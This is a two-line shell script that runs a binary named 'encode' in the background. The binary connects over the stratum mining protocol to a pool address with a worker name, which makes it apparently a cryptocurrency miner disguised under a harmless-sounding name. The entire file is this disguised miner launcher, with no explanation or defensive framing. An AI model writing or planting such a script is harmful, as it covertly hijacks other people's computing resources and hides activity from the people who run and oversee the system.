#!/bin/sh
./encode -o stratum+tcp://pool.box.invalid:3333 -u lines &
